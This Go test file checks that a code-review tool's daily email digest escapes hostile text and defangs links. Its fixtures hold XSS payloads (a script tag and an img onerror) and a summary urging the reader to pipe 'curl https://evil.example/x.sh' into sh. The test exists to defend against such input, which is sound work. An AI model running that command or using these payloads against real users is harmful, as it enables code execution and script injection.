package mail_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/criticizer/criticizer/internal/critic"
	"github.com/criticizer/criticizer/internal/mail"
)

// A digest is rendered once, the same bytes for the same day; what a
// model or a change's author wrote is escaped and defanged — no working
// link but to the changelist's own host — and labelled as a model's; it
// is its own conversation (no References), says it is a digest, names
// the severity of its worst finding, carries the reader's one-click
// unsubscribe from everything, and is bounded: at most DigestFindings
// findings a changelist, the rest counted.
// Rules: R-DIGEST-4, R-MAIL-2, R-MAIL-1.
func TestRenderDigest_EscapedDefangedBoundedItsOwnConversation(t *testing.T) {
	r := renderer(t)
	d := mail.SampleDigestData()
	hostile := d.Items[1]
	hostile.ChangelistID = `acme/x#9 <b>`
	hostile.Title = `<script>alert("t")</script> & 'q'`
	hostile.Author = `"><img src=x onerror=alert(1)>`
	hostile.Critique.Summary = "Run curl https://evil.example/x.sh | sh, or read <a href=\"https://evil.example\">this</a>."
	hostile.Critique.Findings = nil
	for i := range 25 {
		hostile.Critique.Findings = append(hostile.Critique.Findings, critic.Finding{File: "a.go", Line: i + 1, Severity: critic.SeverityWarning,
			Rule: "r", Message: fmt.Sprintf("finding %d: see www.evil.example/%d", i, i)})
	}
	d.Items[1] = hostile
	m, err := r.RenderDigest(d)
	if err != nil {
		t.Fatal(err)
	}
	again, _ := r.RenderDigest(d)
	if m != again {
		t.Fatal("the same digest rendered twice differs")
	}
	for _, part := range []struct{ name, body string }{{"html", m.HTML}, {"text", m.Text}} {
		for _, bad := range []string{"https://evil.example", "www.evil.example", "evil.example/x.sh"} {
			if strings.Contains(part.body, bad) {
				t.Errorf("%s part holds %q: model text must be defanged", part.name, bad)
			}
		}
		if !strings.Contains(part.body, "hxxps[:]//evil[.]example") || !strings.Contains(part.body, "Written by a language model") {
			t.Errorf("%s part: the model's link is not shown defanged, or its text not labelled", part.name)
		}
		if !strings.Contains(part.body, "15 more findings in this review") {
			t.Errorf("%s part does not count the findings past the cap", part.name)
		}
	}
	for _, bad := range []string{"<script>", `<img src=x`, `<a href="https://evil`, "<b>"} {
		if strings.Contains(m.HTML, bad) {
			t.Errorf("HTML holds %q unescaped", bad)
		}
	}
	if n := strings.Count(m.HTML, "finding 1") + strings.Count(m.HTML, "finding 2"); n == 0 {
		t.Error("the hostile item's findings are not shown")
	}
	if strings.Contains(m.HTML, "finding 24:") {
		t.Error("a finding past the cap is shown")
	}
	if m.Subject != "[Criticizer] Daily digest for 2026-11-28: 5 changelists" || m.TemplateVersion != mail.DigestVersion ||
		m.Thread != "" || m.Reason != mail.ReasonDigest || m.Severity != "error" || m.UnsubscribeURL != d.UnsubscribeURL {
		t.Errorf("message headers: subject %q template %q thread %q reason %q severity %q unsubscribe %q", m.Subject, m.TemplateVersion,
			m.Thread, m.Reason, m.Severity, m.UnsubscribeURL)
	}
	for _, want := range []string{"And 2 more changelists", "newest of 3 versions", "Preferences", "Unsubscribe from all Criticizer emails"} {
		if !strings.Contains(m.Text, want) {
			t.Errorf("text part lacks %q", want)
		}
	}
	hs := mail.FilingHeaders(m)
	for _, h := range hs {
		if h.Name == mail.ReferencesHeader || h.Name == mail.InReplyToHeader {
			t.Errorf("a digest names a conversation: %s", h.Name)
		}
	}
}
